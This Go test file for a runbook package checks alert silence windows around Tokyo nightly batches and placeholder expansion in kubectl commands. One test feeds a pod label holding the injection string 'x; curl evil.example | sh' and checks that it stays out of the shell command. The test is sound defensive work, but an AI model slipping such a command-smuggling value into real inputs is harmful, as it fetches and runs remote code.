package runbook

import (
	"strings"
	"testing"
	"time"
)

func TestSilencedAt_NightBatchWindowInTokyo(t *testing.T) {
	nightly := loadOne(t, "nightly-batch-failure")
	jst, err := time.LoadLocation("Asia/Tokyo")
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		at   time.Time
		want bool
	}{
		{"inside the nightly window", time.Date(2026, 3, 4, 2, 30, 0, 0, jst), true},
		{"the same instant given in UTC", time.Date(2026, 3, 3, 17, 30, 0, 0, time.UTC), true},
		{"first minute of the window", time.Date(2026, 3, 4, 1, 0, 0, 0, jst), true},
		{"the end of the window is exclusive", time.Date(2026, 3, 4, 5, 0, 0, 0, jst), false},
		{"just before the window", time.Date(2026, 3, 4, 0, 59, 0, 0, jst), false},
		{"daytime", time.Date(2026, 3, 4, 14, 0, 0, 0, jst), false},
		{"month-end close runs longer on the 1st", time.Date(2026, 4, 1, 7, 30, 0, 0, jst), true},
		{"but not on the 2nd", time.Date(2026, 4, 2, 7, 30, 0, 0, jst), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := nightly.SilencedAt(tt.at); got != tt.want {
				t.Errorf("SilencedAt(%s) = %v, want %v", tt.at, got, tt.want)
			}
		})
	}
}

func TestSilencedAt_NeverWithoutWindows(t *testing.T) {
	if loadOne(t, "http-5xx-ratio").SilencedAt(time.Date(2026, 3, 4, 2, 30, 0, 0, time.UTC)) {
		t.Error("a runbook without silence_during is silenced")
	}
}

func TestExpand_FillsPlaceholdersFromLabels(t *testing.T) {
	crash := loadOne(t, "kube-pod-crashlooping")
	got := crash.Expand(prometheusCrashLoop())
	logs := got.Steps[2].Command
	if want := "kubectl -n payments logs api-7c9f8d6b5-x2kqp -c api --previous --tail=200"; logs != want {
		t.Errorf("expanded command = %q, want %q", logs, want)
	}
	if !strings.Contains(got.Summary, "pod api-7c9f8d6b5-x2kqp (namespace payments)") {
		t.Errorf("expanded summary = %q", got.Summary)
	}
	if crash.Steps[2].Command == logs {
		t.Error("Expand changed the loaded runbook")
	}
}

func TestExpand_KeepsPlaceholdersForMissingOrUnsafeValues(t *testing.T) {
	crash := loadOne(t, "kube-pod-crashlooping")
	hostile := map[string]string{"namespace": "payments", "pod": "x; curl evil.example | sh", "container": ""}
	got := crash.Expand(hostile)
	cmd := got.Steps[2].Command
	if want := "kubectl -n payments logs ${pod} -c ${container} --previous --tail=200"; cmd != want {
		t.Errorf("command = %q, want %q", cmd, want)
	}
	if !strings.Contains(got.Summary, "x; curl evil.example | sh") {
		t.Errorf("prose should take any value: %q", got.Summary)
	}
}

func TestStep_StringJoinsTextAndCommand(t *testing.T) {
	for _, tt := range []struct {
		step Step
		want string
	}{
		{Step{Text: "Check"}, "Check"},
		{Step{Text: "Check", Command: "kubectl get pods"}, "Check: kubectl get pods"},
	} {
		if got := tt.step.String(); got != tt.want {
			t.Errorf("%#v.String() = %q, want %q", tt.step, got, tt.want)
		}
	}
}
